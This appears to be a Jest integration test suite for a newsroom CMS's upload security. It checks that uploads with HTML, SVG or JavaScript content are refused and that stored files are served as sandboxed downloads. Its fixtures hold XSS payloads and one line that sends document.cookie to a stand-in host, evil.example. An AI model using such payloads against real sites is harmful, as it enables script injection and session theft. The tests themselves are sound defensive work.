import fs from 'fs';
import path from 'path';
import sharp from 'sharp';
import { createAdminSession, createApiToken, type AdminSession } from '../../helpers/admin';
import { photo } from '../../helpers/images';
import { startNewsroom, type Newsroom } from '../../helpers/strapi';
import { uploadAsAdmin, uploadWithToken } from '../../helpers/uploads';

/**
 * Uploads are decided from their bytes by an allow-list, through both upload routes: no
 * page, script or markup is ever stored, and what is stored is never rendered as a page
 * from this server's origin.
 */
const FILE = 'plugin::upload.file';
// Small enough that a short animation goes over it while each of its frames does not.
const MAX_PIXELS = 10_000;

let newsroom: Newsroom;
let admin: AdminSession;
let token: string;

beforeAll(async () => {
  newsroom = await startNewsroom({ env: { NEWSROOM_IMAGE_MAX_PIXELS: String(MAX_PIXELS) } });
  admin = await createAdminSession(newsroom);
  token = await createApiToken(newsroom, admin, 'full-access');
});
afterAll(() => newsroom?.stop());

const stored = async () => ({
  records: await newsroom.strapi.db.query(FILE).count({}),
  files: fs.readdirSync(path.join(newsroom.publicDir, 'uploads')).length,
});

const ROUTES = {
  'the Media Library': (data: Buffer, name: string, type?: string) =>
    uploadAsAdmin(newsroom, admin.auth, data, name, type),
  'the content API': (data: Buffer, name: string, type?: string) =>
    uploadWithToken(newsroom, token, data, name, type),
};

const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj <<>> endobj\n<html><script>alert(document.domain)</script></html>\n%%EOF\n'
);

const REFUSED: Array<[string, Buffer, string, string | undefined, RegExp]> = [
  [
    'markup after a line of text',
    Buffer.from('Meeting notes\n\n<html><body><script>alert(1)</script></body></html>'),
    'notes.txt',
    'text/plain',
    /HTML markup/,
  ],
  [
    'an HTML page called an image',
    Buffer.from('   <!doctype html><script>alert(1)</script>'),
    'photo.jpg',
    'image/jpeg',
    /HTML markup/,
  ],
  [
    'SVG with a script',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'logo.svg',
    'image/svg+xml',
    /SVG markup/,
  ],
  [
    'SVG after a comment',
    Buffer.from(
      '<!-- logo -->\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    ),
    'logo.png',
    'image/png',
    /SVG markup/,
  ],
  ['XML', Buffer.from('<?xml version="1.0"?><feed/>'), 'feed.xml', 'application/xml', /XML markup/],
  [
    'JavaScript',
    Buffer.from('fetch("/admin/users").then(r => r.json())'),
    'app.js',
    'application/javascript',
    /not a type the newsroom recognises/,
  ],
  [
    'JavaScript called text',
    Buffer.from('document.location = "https://evil.example/?" + document.cookie'),
    'readme.txt',
    'text/plain',
    /not a type/,
  ],
  [
    'an unknown binary',
    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0]),
    'tool.bin',
    'application/octet-stream',
    /not a type/,
  ],
];

describe.each(Object.entries(ROUTES))('through %s', (_route, upload) => {
  test.each(REFUSED)(
    '%s is refused with 415, nothing stored',
    async (_what, data, name, type, message) => {
      const before = await stored();
      const res = await upload(data, name, type);
      expect(res.status).toBe(415);
      expect(res.body.error.message).toMatch(message);
      expect(res.body.error.message).toContain(name);
      expect(await stored()).toEqual(before);
    }
  );

  test('a PDF sent as an HTML page is stored under its real type and served as a download', async () => {
    const res = await upload(PDF, 'report.html', 'text/html');
    expect(res.status).toBe(201);
    const file = Array.isArray(res.body) ? res.body[0] : res.body;
    expect(file).toMatchObject({ ext: '.pdf', mime: 'application/pdf' });
    const served = await newsroom.http().get(file.url);
    expect(served.status).toBe(200);
    expect(served.headers['content-type']).toMatch(/^application\/pdf/);
    expect(served.headers['content-disposition']).toBe('attachment');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-security-policy']).toContain('sandbox');
  });

  test('an animation is held to the pixel limit across all its frames', async () => {
    const frames = await Promise.all(
      Array.from({ length: 10 }, (_, i) =>
        sharp({
          create: { width: 50, height: 50, channels: 3, background: { r: i * 25, g: 0, b: 0 } },
        })
          .png()
          .toBuffer()
      )
    );
    const gif = await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer();
    const before = await stored();
    const res = await upload(gif, 'loop.gif', 'image/gif');
    expect(res.status).toBe(413);
    expect(res.body.error.message).toBe(
      'The animation decodes to 25,000 pixels (10 frames of 50×50); the limit is 10,000 pixels in all'
    );
    expect(await stored()).toEqual(before);
  });
});

describe('files already on disk', () => {
  test('an image is served inline, never sniffed; anything else under /uploads is a download', async () => {
    const res = await uploadAsAdmin(
      newsroom,
      admin.auth,
      await photo(80, 60),
      'small.jpg',
      'image/jpeg'
    );
    expect(res.status).toBe(201);
    const image = await newsroom.http().get(res.body[0].url);
    expect(image.headers['content-type']).toBe('image/jpeg');
    expect(image.headers['content-disposition']).toBeUndefined();
    expect(image.headers['x-content-type-options']).toBe('nosniff');

    // A page left in the uploads folder by an older version or another tool.
    fs.writeFileSync(
      path.join(newsroom.publicDir, 'uploads', 'left-over.html'),
      '<script>alert(1)</script>'
    );
    const page = await newsroom.http().get('/uploads/left-over.html');
    expect(page.headers['content-type']).toBe('application/octet-stream');
    expect(page.headers['content-disposition']).toBe('attachment');
    expect(page.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
  });
});
